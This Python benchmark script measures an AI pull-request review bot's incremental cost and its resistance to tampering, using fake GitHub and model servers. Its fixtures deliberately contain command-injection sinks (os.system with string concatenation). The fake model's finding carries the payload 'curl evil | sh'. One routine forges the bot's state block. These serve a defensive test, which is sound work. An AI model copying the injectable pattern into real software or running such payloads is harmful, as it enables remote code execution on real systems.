"""Incremental review benchmark: what a one-file push costs after a 20-file review.

    .venv/bin/python benchmarks/claude/incremental.py

`pr-review run` reviews a 20-file pull request against the loopback GitHub and Messages API fakes
(every file has one command injection the fake model reports), then the author pushes a change to
one file and a fresh run — nothing kept but what is on the fake GitHub — reviews it again. Then the
state block in the bot's summary is tampered with and the pull request reviewed once more.
Measures bytes sent to the model on the second run ÷ the first (target ≤ 0.10), findings of the
19 untouched files still reported (target 100%), duplicate inline comments (target 0) and findings
carried forward from the tampered state (target 0). Writes benchmarks/claude/RESULTS-incremental.md.
"""

from __future__ import annotations

import base64
import json
import re
import sys
import tempfile
import zlib
from collections import Counter
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[2]
sys.path[:0] = [str(ROOT), str(ROOT / "tests")]

from claude_support import user_content  # noqa: E402
from conftest import GitRepo  # noqa: E402
from fakes import FakeAnthropic, fake_anthropic_server, fake_github_server, tool_use_response  # noqa: E402
from github_scenario import Scenario, build_scenario  # noqa: E402

FILES = 20
LINES_PER_FILE = 120
CONFIG = "github:\n  write_interval_s: 0\nsemgrep:\n  enabled: false\n"
AUDIT_KEY = "benchmark-audit-key-0123456789abcdef"
SINK = "os.system"
_OPENING = re.compile(r'^<<<UNTRUSTED-DATA nonce=\w+ kind=code path="([^"]*)"')
_CODE_LINE = re.compile(r"^(\d+)[+ ] (.*)$")


def module(n: int, edit: str = "") -> str:
    helpers = "".join(
        f"\n\ndef helper_{n}_{k}(items):\n    total = 0\n    for item in items:\n        total += item * {k}\n"
        f"    return total\n"
        for k in range((LINES_PER_FILE - 10) // 7)
    )
    sink = f'\n\ndef run_{n}(name):\n    return {SINK}("echo " + name)\n'
    return f'"""Service module {n}."""\nimport os\n{edit}{helpers}{sink}'


def answer(request: dict[str, Any]) -> dict[str, Any]:
    """One command injection on each file's os.system line, as the request numbers it."""
    found, path = [], ""
    for line in user_content(request).split("\n"):
        if opening := _OPENING.match(line):
            path = opening.group(1)
        elif (code := _CODE_LINE.match(line)) and SINK in code.group(2):
            found.append(
                {
                    "path": path,
                    "start_line": int(code.group(1)),
                    "end_line": int(code.group(1)),
                    "severity": "high",
                    "cwe": "CWE-78",
                    "title": f"Command injection in {path}",
                    "description": "The name reaches a shell.",
                    "exploit_scenario": "name=`; curl evil | sh`",
                    "recommendation": "Use subprocess.run with a list.",
                    "confidence": 0.9,
                }
            )
    return tool_use_response({"findings": found})


def review(scenario: Scenario, claude: FakeAnthropic) -> dict[str, Any]:
    claude.clear()
    code = scenario.run(ANTHROPIC_API_KEY="k", ANTHROPIC_BASE_URL=claude.url, PR_REVIEW_AUDIT_KEY=AUDIT_KEY)
    requests = claude.message_requests()
    lines = (scenario.results / "audit.jsonl").read_text(encoding="utf-8").splitlines()
    event = [json.loads(line)["data"] for line in lines if json.loads(line)["event"] == "model_review"][-1]
    return {
        "exit": code,
        "requests": len(requests),
        "user_bytes": sum(len(user_content(r).encode()) for r in requests),
        "request_bytes": sum(len(json.dumps(r).encode()) for r in requests),
        "findings": {f["location"]["path"]: f["fingerprint"] for f in scenario.findings() if "claude" in f["sources"]},
        "event": event,
    }


def tamper(scenario: Scenario) -> None:
    """Empty every file's findings in the state block, keeping its MAC."""
    [record] = [c for c in scenario.pull.issue_comments if "pr-review:summary" in c.body]
    match = re.search(r" state=1\.([A-Za-z0-9+/=]+)\.", record.body)
    assert match is not None
    document = json.loads(zlib.decompress(base64.b64decode(match.group(1))))
    for unit in document["u"].values():
        unit["f"] = []
    forged = base64.b64encode(zlib.compress(json.dumps(document).encode())).decode()
    record.body = record.body.replace(match.group(1), forged)


def main() -> int:
    files = {f"app/service_{n:02}.py": module(n) for n in range(FILES)}
    with tempfile.TemporaryDirectory() as tmp, fake_github_server() as github, fake_anthropic_server() as claude:
        claude.responder = answer
        repo_dir = Path(tmp) / "repo"
        repo_dir.mkdir()
        scenario = build_scenario(github, GitRepo(repo_dir), Path(tmp), head_files=files, base_config=CONFIG)
        first = review(scenario, claude)
        changed = "app/service_07.py"
        scenario.push({changed: module(7, edit="TIMEOUT_S = 5\n")})
        second = review(scenario, claude)
        tamper(scenario)
        third = review(scenario, claude)
        fingerprints = Counter(
            m.group(1) for c in github.review_comments(7) if (m := re.search(r"fingerprint=([0-9a-f]+)", c["body"]))
        )
    untouched = set(files) - {changed}
    kept = sum(1 for path in untouched if second["findings"].get(path) == first["findings"].get(path))
    ratio_user = second["user_bytes"] / first["user_bytes"]
    ratio_request = second["request_bytes"] / first["request_bytes"]
    duplicates = sum(n - 1 for n in fingerprints.values() if n > 1)
    carried = third["event"]["carried"]
    spent = [second["event"][f"{kind}_tokens"] for kind in ("input", "cache_write", "cache_read")]
    rows = [
        ("user-turn bytes to the model, run 2 ÷ run 1", f"{ratio_user:.3f}", "≤ 0.10", ratio_user <= 0.10),
        ("whole request bytes (system prompt and tools too), run 2 ÷ run 1", f"{ratio_request:.3f}", "—", None),
        ("findings of the 19 untouched files still reported", f"{kept}/{len(untouched)}", "100%", kept == 19),
        ("duplicate inline comments", str(duplicates), "0", duplicates == 0),
        ("findings carried from a tampered state block", str(len(carried)), "0", not carried),
    ]  # fmt: skip
    detail = [
        f"- run 1: {first['requests']} request(s), {first['user_bytes']:,} user-turn bytes, "
        f"{first['request_bytes']:,} request bytes; mode `{first['event']['mode']}`",
        f"- run 2 (one file changed, fresh runner): {second['requests']} request(s), "
        f"{second['user_bytes']:,} user-turn bytes, {second['request_bytes']:,} request bytes; "
        f"mode `{second['event']['mode']}`; sent {second['event']['reviewed']}",
        f"- run 3 (state tampered, MAC kept): {third['requests']} request(s); mode `{third['event']['mode']}`",
        f"- estimated input tokens of a full review at run 2: {second['event']['full_review_tokens']:,}; "
        f"input tokens the fake counted for run 2: {sum(spent):,} ({spent[0]:,} uncached, {spent[1]:,} written "
        f"to and {spent[2]:,} read from the prompt cache)",
    ]
    table = ["| Measure | Result | Target | Met |", "|---|---|---|---|"]
    verdict = {True: "yes", False: "NO", None: "—"}
    table += [f"| {name} | {value} | {target} | {verdict[met]} |" for name, value, target, met in rows]
    text = "\n".join(
        [
            "# Claude incremental review benchmark",
            "",
            "`.venv/bin/python benchmarks/claude/incremental.py`: a 20-file pull request (~120 lines a file, one",
            "command injection each) reviewed by `pr-review run` against the loopback GitHub and Messages API",
            "fakes, then a push changing one file reviewed by a fresh run whose only memory is the state block",
            "in the bot's summary comment on the fake GitHub; then that block tampered with (findings emptied,",
            "MAC kept) and reviewed again. `PR_REVIEW_AUDIT_KEY` is set. The system prompt and tool definitions",
            "are byte-identical in every request and cached by the API; the user turn is what the pull request",
            "costs.",
            "",
            *table,
            "",
            *detail,
            "",
        ]
    )
    (Path(__file__).parent / "RESULTS-incremental.md").write_text(text, encoding="utf-8")
    print(text)
    return (
        0 if all(met is not False for *_, met in rows) and first["exit"] == second["exit"] == third["exit"] == 0 else 1
    )


if __name__ == "__main__":
    raise SystemExit(main())
